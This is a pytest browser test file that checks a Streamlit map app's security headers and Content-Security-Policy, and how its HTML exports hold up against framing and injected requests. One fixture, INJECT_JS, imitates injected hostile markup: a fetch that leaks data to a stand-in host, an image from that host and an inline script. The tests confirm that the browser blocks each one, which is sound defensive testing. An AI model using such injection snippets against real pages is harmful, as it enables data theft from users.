"""Locked down, in a real Chromium: the app's own security headers and Content-Security-Policy
(web/server/security.py), with which every page still works and nothing is refused, while what a page was
never meant to do is; and the exports (render/csp.py), opened from file://, which draw their map and names
under their own policy and have the browser refuse an injected request. On the session's app server.

A refused request or script shows as a `securitypolicyviolation` event, which each page records from its
start (`watch`): the directive, the blocked URL and the source line, printed when a test fails.
"""

from __future__ import annotations

import re
import urllib.error
import urllib.request

import pytest

from tests.support.browser import Page

pytestmark = [pytest.mark.browser, pytest.mark.real]

WATCH_JS = (
    "window.__bmViolations = [];"
    "document.addEventListener('securitypolicyviolation', function (e) {"
    "  window.__bmViolations.push({directive: e.effectiveDirective, blocked: e.blockedURI,"
    "    source: e.sourceFile + ':' + e.lineNumber, sample: e.sample});"
    "});"
)
# What a page injected with hostile markup would try: a request to another host, an image from it, a script.
INJECT_JS = """() => {
  fetch('http://example.invalid/leak?x=1').catch(() => {});
  const img = document.createElement('img');
  img.src = 'http://example.invalid/x.png';
  document.body.appendChild(img);
  const s = document.createElement('script');
  s.textContent = 'window.__bmInjected = true;';
  document.body.appendChild(s);
}"""
# A 1x1 PNG standing in for OpenStreetMap's tiles (the tests make no request to another host).
PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082"
)


def watch(page: Page) -> None:
    page.page.add_init_script(WATCH_JS)


def violations(page: Page) -> list[dict]:
    return page.page.evaluate("window.__bmViolations || []")


def injected_refusals(page: Page) -> set[str]:
    """The directives that refused INJECT_JS's three attempts (and that the script did not run)."""
    before = len(violations(page))
    page.page.evaluate(INJECT_JS)
    page.page.wait_for_function("(n) => window.__bmViolations.length >= n + 3", arg=before)
    assert page.page.evaluate("window.__bmInjected === undefined"), "an injected inline script ran"
    return {v["directive"] for v in violations(page)[before:]}


def directives(policy: str) -> dict[str, list[str]]:
    found = {}
    for part in policy.split(";"):
        words = part.split()
        if words:
            found[words[0]] = words[1:]
    return found


def headers_of(url: str) -> dict[str, str]:
    try:
        with urllib.request.urlopen(url, timeout=20) as response:
            return {k.lower(): v for k, v in response.headers.items()}
    except urllib.error.HTTPError as error:  # an error is answered with the headers too
        return {k.lower(): v for k, v in error.headers.items()}


# --- the app ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "path",
    ["/", "/explore?lang=th", "/stories", "/vendor/leaflet/leaflet.js", "/layers/missing.json", "/_stcore/health"],
)
def test_every_response_of_the_app_carries_the_security_headers(app, path):
    headers = headers_of(app.url + path)
    assert headers.get("x-content-type-options") == "nosniff", headers
    assert headers.get("referrer-policy") == "same-origin", headers
    policy = directives(headers.get("content-security-policy", ""))
    assert policy.get("frame-ancestors") == ["'self'"], policy
    assert "'unsafe-inline'" not in policy["script-src"], policy
    assert "'unsafe-eval'" not in policy["script-src"], policy  # the map's code loads as files (map_widget)
    assert policy["connect-src"] == ["'self'"], policy
    assert policy["object-src"] == ["'none'"], policy


def test_a_page_allows_exactly_its_own_inline_scripts(app):
    """The page's policy lists a hash for each inline script it carries (Streamlit's and the page hints'), so the
    hints run; a deep link's server-base script differs per path, and so does the list."""
    from border_map.render import csp

    with urllib.request.urlopen(app.url + "/explore", timeout=20) as response:
        page = response.read().decode()
        policy = directives(response.headers["content-security-policy"])
    inline = csp.inline_script_hashes(page)
    assert len(inline) >= 2  # Streamlit's own and the server base
    assert set(inline) <= set(policy["script-src"])
    root = directives(headers_of(app.url + "/")["content-security-policy"])
    assert set(policy["script-src"]) != set(root["script-src"])


PAGES = [
    ("/?lang=en", "map"),
    ("/?lang=th", "map"),
    ("/explore?lang=en&province=Loei", "map"),
    ("/stories?lang=th", "map"),
    ("/present?lang=en", "map"),
    ("/data?lang=en", "downloads"),
    ("/data?lang=th", "downloads"),
]


@pytest.mark.parametrize(("path", "shows"), PAGES)
def test_every_page_works_under_the_policy_without_a_violation(browser, app, path, shows):
    page = Page(browser)
    try:
        watch(page)
        page.goto(app.url + path)
        if shows == "map":
            page.wait_for_map(100)
        else:
            page.page.locator('[data-testid="stDownloadButton"]').first.wait_for()
            page.settle(0)
        assert violations(page) == []
        assert injected_refusals(page) == {"connect-src", "img-src", "script-src-elem"}
        page.errors = [e for e in page.errors if "Content Security Policy" not in e]  # the injected ones
    finally:
        page.close()


def test_the_online_basemap_loads_its_tiles_under_the_policy(browser, app):
    page = Page(browser, allow_external=True)
    try:
        # Stands in for OpenStreetMap (registered last, so it answers before the Page's own refusal).
        referers = []

        def tile(route) -> None:
            referers.append(route.request.headers.get("referer"))
            route.fulfill(body=PNG, content_type="image/png")

        page.context.route("https://tile.openstreetmap.org/**", tile)
        watch(page)
        page.goto(app.url + "/?lang=en&basemap=1")
        page.wait_for_map(100)
        page.page.wait_for_function("document.querySelectorAll('.leaflet-tile-loaded').length > 0")
        assert violations(page) == []
        assert page.page.locator(".bm-tile-error").count() == 0
        # The tiles alone send a Referer, the app's origin only (OSM's usage policy; Referrer-Policy: same-origin).
        assert referers, "no tile was asked for"
        assert set(referers) == {app.url + "/"}, set(referers)
    finally:
        page.close()


def framed(page: Page, framer: str, app_url: str):
    """The frame of the app inside a page at `framer` (answered by the test: a page that frames the app)."""
    page.context.route(
        framer, lambda route: route.fulfill(body=f'<iframe src="{app_url}/" width="600" height="400"></iframe>')
    )
    page.page.goto(framer)
    page.page.wait_for_load_state("load")
    (frame,) = [f for f in page.page.frames if f is not page.page.main_frame]
    return frame


def test_another_site_cannot_frame_the_app_and_the_app_itself_can(browser, app):
    page = Page(browser)
    try:
        # Another origin (localhost is not 127.0.0.1): the browser refuses to show the app in its frame.
        frame = framed(page, app.url.replace("127.0.0.1", "localhost") + "/__framer.html", app.url)
        assert frame.url.startswith("chrome-error:"), frame.url
        page.errors = [e for e in page.errors if "frame-ancestors" not in e]
        # The app's own origin may ('self'): the same frame, from the same host, starts Streamlit.
        frame = framed(page, app.url + "/__framer.html", app.url)
        frame.locator('[data-testid="stApp"]').wait_for(state="attached")
    finally:
        page.close()


def test_no_other_page_may_steer_the_app_by_message(app):
    """Streamlit obeys a parent page whose origin it trusts (rerun, stop, set a token, by postMessage); its default
    trusts sixteen Community Cloud origins. This app is not hosted there and trusts none
    (`client.allowedOrigins`, .streamlit/config.toml), which its frontend reads here."""
    config = app.status("/_stcore/host-config")
    assert config is not None, "the server gave no host config"
    assert config["allowedOrigins"] == []


# --- the exports -----------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def exported(exports_dir):
    """The one-file HTML (English), the site (English) and the deck (Thai), written as the CLI writes them."""
    return exports_dir


# An export's map (a folium global) as the viewer meets it: does the wheel zoom it, its zoom, the scale bar's text,
# and how many "Selected pair" entries its legend shows.
EXPORT_MAP_JS = """() => {
  const map = Object.values(window).find((v) => v instanceof L.Map);
  const shown = [...document.querySelectorAll('.bm-legend-body > div')].filter((e) => !e.hidden);
  return {
    wheel: map.scrollWheelZoom.enabled(),
    zoom: map.getZoom(),
    scale: document.querySelector('.leaflet-control-scale-line').textContent,
    selected: shown.filter((e) => e.textContent === 'Selected pair' || e.textContent === 'คู่พื้นที่ที่เลือก').length,
  };
}"""
SELECTS_A_PAIR = {"site/pairs/01-1.html"}  # the other exports open on a view without a selected pair


EXPORTS = ["loei-en.html", "site/index.html", "site/provinces/tha-loei.html", "site/pairs/01-1.html", "deck-th.html"]


@pytest.mark.parametrize("name", EXPORTS)
def test_an_export_from_file_draws_its_map_and_refuses_every_request(browser, exported, name):
    path = exported / name
    assert path.is_file(), sorted(p.name for p in path.parent.iterdir())
    assert '<meta http-equiv="Content-Security-Policy"' in path.read_text(encoding="utf-8")[:3000]
    page = Page(browser)  # refuses every request to a host: the injected ones must be refused before that
    try:
        page.context.route(lambda url: url.startswith("file://"), lambda route: route.continue_())  # the files
        watch(page)
        page.page.goto(path.as_uri())
        page.page.wait_for_function("document.querySelectorAll('.leaflet-overlay-pane path').length > 100")
        page.page.wait_for_function("document.querySelectorAll('.bm-label').length > 0")
        assert violations(page) == []
        assert injected_refusals(page) == {"connect-src", "img-src", "script-src-elem"}
        assert_the_map_speaks_and_waits_to_be_chosen(page, name)
        page.errors = [e for e in page.errors if "Content Security Policy" not in e]
    finally:
        page.close()


def assert_the_map_speaks_and_waits_to_be_chosen(page: Page, name: str) -> None:
    """The map of an export: its scale bar in the export's language, its legend's "Selected pair" only where it
    draws one, and the wheel left to the page until the viewer presses on the map, then zooming it
    (render.map_elements: Scale, WheelAfterChoice; maps.legend_html)."""
    got = page.page.evaluate(EXPORT_MAP_JS)
    unit = r"(กม\.|ม\.)" if name.endswith("-th.html") else r"(km|m)"
    assert re.fullmatch(rf"\d+ {unit}", got["scale"]), got["scale"]
    assert got["selected"] == (name in SELECTS_A_PAIR), got
    assert not got["wheel"], "the wheel zooms a map nobody has chosen"
    box = page.page.locator(".folium-map").bounding_box()
    page.page.mouse.click(box["x"] + box["width"] * 0.6, box["y"] + box["height"] * 0.4)
    assert page.page.evaluate(EXPORT_MAP_JS)["wheel"], "a press on the map did not choose it"
    page.page.mouse.wheel(0, -300)
    page.page.wait_for_function(
        "z => Object.values(window).find((v) => v instanceof L.Map).getZoom() > z", arg=got["zoom"]
    )
